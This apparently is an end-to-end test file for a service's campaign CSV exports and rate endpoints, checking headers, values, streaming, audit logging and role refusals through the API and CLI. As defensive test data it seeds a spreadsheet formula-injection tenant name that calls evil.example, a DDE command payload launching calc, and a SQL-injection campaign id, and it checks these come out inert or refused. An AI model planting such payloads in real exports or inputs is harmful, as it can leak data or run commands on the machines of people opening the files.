/**
 * The operator's campaign exports and rates, end to end on real PostgreSQL through the HTTP app and
 * the compiled CLI: each export's header exactly as documented, values as seeded (decisions with
 * their review, deliveries, notices with readers and acknowledgements from the tenant inbox, the
 * audit log), a hostile tenant name written inert, an empty campaign giving the header alone, more
 * rows than one page streamed in order, the export audited, and the wrong role refused.
 */
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { INestApplication } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { createApiApp } from '../apps/api/src/create-app.js';
import { DevIssuer } from '../libs/auth/dev-issuer.js';
import { PrismaService } from '../libs/db/prisma.service.js';
import { EXPORT_PAGE } from '../libs/reports/campaign-reports.service.js';
import { ensureWorkerBuilt } from './faults/harness.js';
import { isolate } from './support/isolation.js';
import { postNotice, seedCampaign, seedTenant, type SeededTenant } from './support/inbox-seed.js';

const ALICE = 'alice-token-exports-0123456789';
const VERA = 'vera-token-exports-01234567890';
const SAM = 'sam-token-exports-012345678901';
const INBOX = '/v1/admin/serviceAnnouncement/messages';
const CLI = 'dist/apps/cli/src/main.js';
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
const HOSTILE_ERROR = "@SUM(1+1)*cmd|' /C calc'!A0";
const execute = promisify(execFile);

/** The documented columns (docs/contracts.md §5), written here again so that a change to them fails. */
const HEADERS = {
  decisions:
    'tenantId,tenantName,decision,reasons,dataCategories,records,reviewItems,reviewOutcome,reviewedBy,reviewedAt,reviewJustification',
  deliveries: 'noticeId,tenantId,address,role,kind,revision,state,attempts,lastError,queuedAt,sentAt',
  notices:
    'noticeId,tenantId,tenantName,postedAt,lastModifiedAt,readers,firstReadAt,acknowledgements,firstAcknowledgedAt',
  audit: 'at,actor,action,tenantId,subject,details',
} as const;
type Kind = keyof typeof HEADERS;

const rowsOf = (text: string) => parse<Record<string, string>>(text, { bom: true, columns: true });

describe('campaign exports and rates (API and CLI)', () => {
  const saved = { ...process.env };
  const keyDir = mkdtempSync(join(tmpdir(), 'exports-e2e-'));
  let app: INestApplication;
  let prisma: PrismaService;
  let http: ReturnType<INestApplication['getHttpServer']>;
  let campaign: string;
  let empty: string;
  let H: SeededTenant;
  let N: SeededTenant;
  let X: SeededTenant;
  let hNotice: string;
  let nNotice: string;
  let firstRead: number;

  const exportOf = (id: string, kind: string, token = ALICE) =>
    request(http).get(`/v1/campaigns/${id}/exports/${kind}.csv`).set('Authorization', `Bearer ${token}`);
  const cli = (args: string[], env: Record<string, string> = {}) =>
    execute('node', [CLI, ...args], { env: { ...process.env, ...env }, maxBuffer: 64 << 20 });

  beforeAll(async () => {
    await ensureWorkerBuilt();
    await isolate();
    Object.assign(process.env, {
      OPERATOR_TOKENS: `alice:${ALICE},vera:${VERA},sam:${SAM}`,
      OPERATOR_ROLES: 'alice:admin,vera:viewer,sam:sender,cli-exporter:admin,cli-viewer:viewer',
      OPERATOR_NAME: 'cli-exporter',
      DEV_ISSUER_ENABLED: 'true',
      DEV_ISSUER_KEY_DIR: keyDir,
      INBOX_RATE_PER_USER: '100000',
      INBOX_RATE_PER_ADDRESS: '100000',
    });
    app = await createApiApp();
    await app.init();
    http = app.getHttpServer();
    prisma = app.get(PrismaService);

    const admins = (d: string) => [
      { email: `admin@${d}`, roles: ['GlobalAdmin'] },
      { email: `privacy@${d}`, roles: ['PrivacyReader'] },
    ];
    H = await seedTenant(prisma, { name: HOSTILE_NAME, contacts: admins });
    N = await seedTenant(prisma, { contacts: admins });
    X = await seedTenant(prisma, { contacts: admins });
    campaign = await seedCampaign(prisma, 'Exports');
    empty = await seedCampaign(prisma, 'Nothing yet');
    await prisma.campaign.update({
      where: { id: campaign },
      data: { startedAt: new Date(Date.now() - 2 * 3_600_000) },
    });
    hNotice = await postNotice(prisma, campaign, H, { postedAt: new Date(Date.now() - 90 * 60_000) });
    nNotice = await postNotice(prisma, campaign, N, { postedAt: new Date(Date.now() - 30 * 60_000) });
    // X went to review: one item resolved to nobody by rita
    await prisma.tenantDecision.create({
      data: {
        campaignId: campaign,
        tenantId: X.id,
        decision: 'not_affected',
        reasons: ['company name only', '-shared with 2 tenants'],
        dataCategories: [],
        records: 0,
        rawRecords: 0,
        reviewKeys: ['rk-x'],
      },
    });
    await prisma.reviewItem.create({
      data: {
        campaignId: campaign,
        reviewKey: 'rk-x',
        itemKey: 'item-x',
        recordIds: ['R1'],
        candidates: [X.id, N.id],
        triggers: ['company name'],
        resolved: true,
        resolvedBy: 'rita',
        resolvedAt: new Date('2026-11-20T08:00:00Z'),
        justification: '+ a company name two tenants share, no address',
      },
    });
    await prisma.delivery.create({
      data: {
        campaignId: campaign,
        tenantId: H.id,
        noticeId: hNotice,
        address: `admin@${H.domain}`,
        role: 'GlobalAdmin',
        locale: 'en-US',
        operationId: randomUUID(),
        state: 'failed',
        attempts: 3,
        lastError: HOSTILE_ERROR,
        queuedAt: new Date('2026-11-20T09:00:00Z'),
      },
    });

    // H's two admins read its notice (one opens it, one marks it read); one acknowledges; N reads nothing
    const issuer = app.get(DevIssuer);
    const admin = (await issuer.issue(H.id, `admin@${H.domain}`)).token;
    const privacy = (await issuer.issue(H.id, `privacy@${H.domain}`)).token;
    firstRead = Date.now();
    await request(http).get(`${INBOX}/${hNotice}`).set('Authorization', `Bearer ${admin}`).expect(200);
    await request(http)
      .post(`${INBOX}/markRead`)
      .set('Authorization', `Bearer ${privacy}`)
      .send({ messageIds: [hNotice] })
      .expect(200);
    // a second read by the same user is still one reader
    await request(http).get(`${INBOX}/${hNotice}`).set('Authorization', `Bearer ${admin}`).expect(200);
    // a list is not a read
    await request(http)
      .get(INBOX)
      .set('Authorization', `Bearer ${(await issuer.issue(N.id, `admin@${N.domain}`)).token}`);
    await request(http).post(`${INBOX}/${hNotice}/acknowledge`).set('Authorization', `Bearer ${privacy}`).expect(200);
  }, 300_000);

  afterAll(async () => {
    await app?.close();
    process.env = saved;
    rmSync(keyDir, { recursive: true, force: true });
  });

  it.each(Object.keys(HEADERS) as Kind[])(
    'the %s export streams CSV with exactly the documented header, as a file to save',
    async (kind) => {
      const res = await exportOf(campaign, kind).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="campaign-${campaign}-${kind}.csv"`);
      expect(res.text.startsWith(`\uFEFF${HEADERS[kind]}\r\n`)).toBe(true);
    },
  );

  it('decisions: every tenant with its reasons and review; the hostile tenant name comes out inert', async () => {
    const rows = rowsOf((await exportOf(campaign, 'decisions').expect(200)).text);
    expect(rows.map((r) => r.tenantId)).toEqual([H.id, N.id, X.id].sort());
    const h = rows.find((r) => r.tenantId === H.id)!;
    expect(h.tenantName).toBe(`'${HOSTILE_NAME}`);
    expect(h).toMatchObject({ decision: 'affected', reasons: 'test: affected', records: '1', reviewItems: '0' });
    expect(rows.find((r) => r.tenantId === X.id)).toEqual({
      tenantId: X.id,
      tenantName: X.name,
      decision: 'not_affected',
      reasons: 'company name only; -shared with 2 tenants',
      dataCategories: '',
      records: '0',
      reviewItems: '1',
      reviewOutcome: 'notAssigned',
      reviewedBy: 'rita',
      reviewedAt: '2026-11-20T08:00:00.000Z',
      reviewJustification: "'+ a company name two tenants share, no address",
    });
    // no cell anywhere starts with what a spreadsheet would run
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('deliveries: each email with its state, attempts and last error, written inert', async () => {
    const rows = rowsOf((await exportOf(campaign, 'deliveries').expect(200)).text);
    expect(rows).toEqual([
      {
        noticeId: hNotice,
        tenantId: H.id,
        address: `admin@${H.domain}`,
        role: 'GlobalAdmin',
        kind: 'notice',
        revision: '0',
        state: 'failed',
        attempts: '3',
        lastError: `'${HOSTILE_ERROR}`,
        queuedAt: '2026-11-20T09:00:00.000Z',
        sentAt: '',
      },
    ]);
  });

  it('notices: distinct readers and the first read from the audit log, acknowledgements from the inbox', async () => {
    const rows = rowsOf((await exportOf(campaign, 'notices').expect(200)).text);
    expect(rows.map((r) => r.noticeId).sort()).toEqual([hNotice, nNotice].sort());
    const h = rows.find((r) => r.noticeId === hNotice)!;
    expect(h).toMatchObject({ tenantId: H.id, tenantName: `'${HOSTILE_NAME}`, readers: '2', acknowledgements: '1' });
    expect(Math.abs(Date.parse(h.firstReadAt!) - firstRead)).toBeLessThan(30_000);
    expect(Date.parse(h.firstAcknowledgedAt!)).toBeGreaterThanOrEqual(Date.parse(h.firstReadAt!));
    const ack = await prisma.noticeAcknowledgement.findFirstOrThrow({ where: { noticeId: hNotice } });
    expect(h.firstAcknowledgedAt).toBe(ack.acknowledgedAt.toISOString());
    expect(rows.find((r) => r.noticeId === nNotice)).toMatchObject({
      tenantName: N.name,
      readers: '0',
      firstReadAt: '',
      acknowledgements: '0',
      firstAcknowledgedAt: '',
    });
  });

  it("audit: the campaign's events, and each export is audited with who exported what", async () => {
    await exportOf(campaign, 'deliveries').expect(200);
    const rows = rowsOf((await exportOf(campaign, 'audit').expect(200)).text);
    const actions = rows.map((r) => r.action);
    expect(actions).toEqual(expect.arrayContaining(['inbox.message.read', 'inbox.viewpoint.markRead']));
    expect(actions).toContain('inbox.message.acknowledge');
    const exported = rows.filter((r) => r.action === 'campaign.export');
    expect(exported.length).toBeGreaterThanOrEqual(2);
    expect(exported.every((r) => r.actor === 'alice')).toBe(true);
    const deliveries = exported.find((r) => r.subject === 'deliveries')!;
    expect(JSON.parse(deliveries.details!)).toEqual({ what: 'deliveries', rows: 1, complete: true });
    // in the order the log was written (its ids): `at` comes from two clocks, the service's and the database's
    const logged = await prisma.auditEvent.findMany({ where: { campaignId: campaign }, orderBy: { id: 'asc' } });
    expect(rows.map((r) => [r.action, r.subject])).toEqual(
      logged.slice(0, rows.length).map((e) => [e.action, e.subject]),
    );
    // every event of this campaign, and nothing else: its own event is written as it ends
    expect(await prisma.auditEvent.count({ where: { campaignId: campaign } })).toBe(rows.length + 1);
  });

  it.each(Object.keys(HEADERS) as Kind[])('an empty campaign gives the %s header alone', async (kind) => {
    // a campaign of its own: an export of `empty` is an audit event of it
    const fresh = await seedCampaign(prisma, `Empty ${kind}`);
    expect((await exportOf(fresh, kind).expect(200)).text).toBe(`\uFEFF${HEADERS[kind]}\r\n`);
    expect((await exportOf(empty, kind).expect(200)).text.startsWith(`\uFEFF${HEADERS[kind]}\r\n`)).toBe(true);
  });

  it('streams more rows than one page, each once, in order', async () => {
    const big = await seedCampaign(prisma, 'Big');
    const n = EXPORT_PAGE * 2 + 7;
    await prisma.$executeRaw`INSERT INTO tenant_decisions (campaign_id, tenant_id, decision, reasons, data_categories, records, raw_records, review_keys)
      SELECT ${big}::uuid, gen_random_uuid(), 'not_affected', ARRAY['r'], ARRAY[]::text[], 0, 0, ARRAY[]::text[] FROM generate_series(1, ${n})`;
    const rows = rowsOf((await exportOf(big, 'decisions').expect(200)).text);
    expect(rows).toHaveLength(n);
    const ids = rows.map((r) => r.tenantId!);
    expect(new Set(ids).size).toBe(n);
    expect([...ids].sort()).toEqual(ids);
    // the audit log's pages follow its numeric ids across digit counts (999 before 1000)
    await prisma.$executeRaw`INSERT INTO audit_events (actor, action, campaign_id, subject)
      SELECT 'seed', 'test.event', ${big}::uuid, i::text FROM generate_series(1, ${n}) i`;
    const span = await prisma.auditEvent.aggregate({
      where: { campaignId: big },
      _min: { id: true },
      _max: { id: true },
    });
    expect(String(span._min.id).length).toBeLessThan(String(span._max.id).length);
    const events = rowsOf((await exportOf(big, 'audit').expect(200)).text).filter((r) => r.action === 'test.event');
    expect(events.map((r) => Number(r.subject))).toEqual(Array.from({ length: n }, (_, i) => i + 1));
  });

  it('refuses the wrong role, an unknown export, a campaign that does not exist and an id that is not one', async () => {
    for (const token of [VERA, SAM]) {
      const res = await exportOf(campaign, 'decisions', token).expect(403);
      expect(res.body.error.code).toBe('forbidden');
      expect(res.text).not.toContain(H.id);
    }
    const bad = await exportOf(campaign, 'passwords').expect(400);
    expect(bad.body.error.message).toMatch(/what: must be one of decisions, deliveries, notices, audit/);
    await exportOf(randomUUID(), 'decisions').expect(404);
    await exportOf("1' OR '1'='1", 'decisions').expect(400);
    await request(http).get(`/v1/campaigns/${campaign}/exports/decisions.csv`).expect(401);
    expect(await prisma.auditEvent.count({ where: { action: 'security.operatorForbidden' } })).toBeGreaterThanOrEqual(
      2,
    );
  });

  it('rates: per hour since the launch, posted, first reads and first acknowledgements with cumulative rates', async () => {
    const res = await request(http)
      .get(`/v1/campaigns/${campaign}/rates?bucket=hour`)
      .set('Authorization', `Bearer ${VERA}`)
      .expect(200);
    expect(res.body).toMatchObject({ campaignId: campaign, bucket: 'hour', affectedTenants: 2 });
    const buckets = res.body.buckets as {
      noticesPosted: number;
      cumulative: Record<string, number>;
      rates: Record<string, number>;
    }[];
    expect(buckets.length).toBeGreaterThanOrEqual(3);
    expect(buckets.reduce((s, b) => s + b.noticesPosted, 0)).toBe(2);
    expect(buckets.at(-1)).toMatchObject({
      cumulative: { noticesPosted: 2, firstReads: 1, firstAcknowledgements: 1 },
      rates: { posted: 1, read: 0.5, acknowledged: 0.5 },
    });
    const daily = await request(http)
      .get(`/v1/campaigns/${campaign}/rates`)
      .set('Authorization', `Bearer ${VERA}`)
      .expect(200);
    expect(daily.body.bucket).toBe('day');
    await request(http)
      .get(`/v1/campaigns/${campaign}/rates?bucket=minute`)
      .set('Authorization', `Bearer ${VERA}`)
      .expect(400);
    const notLaunched = await request(http)
      .get(`/v1/campaigns/${empty}/rates`)
      .set('Authorization', `Bearer ${VERA}`)
      .expect(200);
    expect(notLaunched.body).toMatchObject({ launchedAt: null, buckets: [] });
  });

  it('the CLI writes the same CSV to a file or to stdout, and refuses an operator without the role', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'exports-cli-'));
    try {
      const file = join(dir, 'notices.csv');
      const r = await cli(['campaigns', 'export', campaign, '--what', 'notices', '--out', file, '--json']);
      expect(JSON.parse(r.stdout)).toEqual({ campaignId: campaign, what: 'notices', rows: 2, file });
      const viaApi = (await exportOf(campaign, 'notices').expect(200)).text;
      expect(readFileSync(file, 'utf8')).toBe(viaApi);

      const out = await cli(['campaigns', 'export', campaign, '--what', 'decisions']);
      expect(out.stdout).toBe((await exportOf(campaign, 'decisions').expect(200)).text);
      expect(out.stderr).toContain('3 decisions row(s) written');

      const rates = await cli(['campaigns', 'rates', campaign, '--bucket', 'hour', '--json']);
      expect(JSON.parse(rates.stdout)).toMatchObject({ campaignId: campaign, bucket: 'hour', affectedTenants: 2 });

      const refused = await cli(['campaigns', 'export', campaign, '--what', 'audit'], {
        OPERATOR_NAME: 'cli-viewer',
      }).catch((e: { code: number; stdout: string; stderr: string }) => e);
      expect(refused).toMatchObject({
        code: 1,
        stdout: '',
        stderr: 'error: operator cli:cli-viewer lacks role admin\n',
      });
      const badWhat = await cli(['campaigns', 'export', campaign, '--what', 'all']).catch(
        (e: { code: number; stderr: string }) => e,
      );
      expect(badWhat).toMatchObject({
        code: 1,
        stderr: 'error: --what: must be one of decisions, deliveries, notices, audit\n',
      });
      const noOut = await cli(['campaigns', 'export', campaign, '--what', 'audit', '--json']).catch(
        (e: { code: number; stderr: string }) => e,
      );
      expect(noOut).toMatchObject({ code: 1 });
      expect(noOut.stderr).toMatch(/^error: --out: needed with --json/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
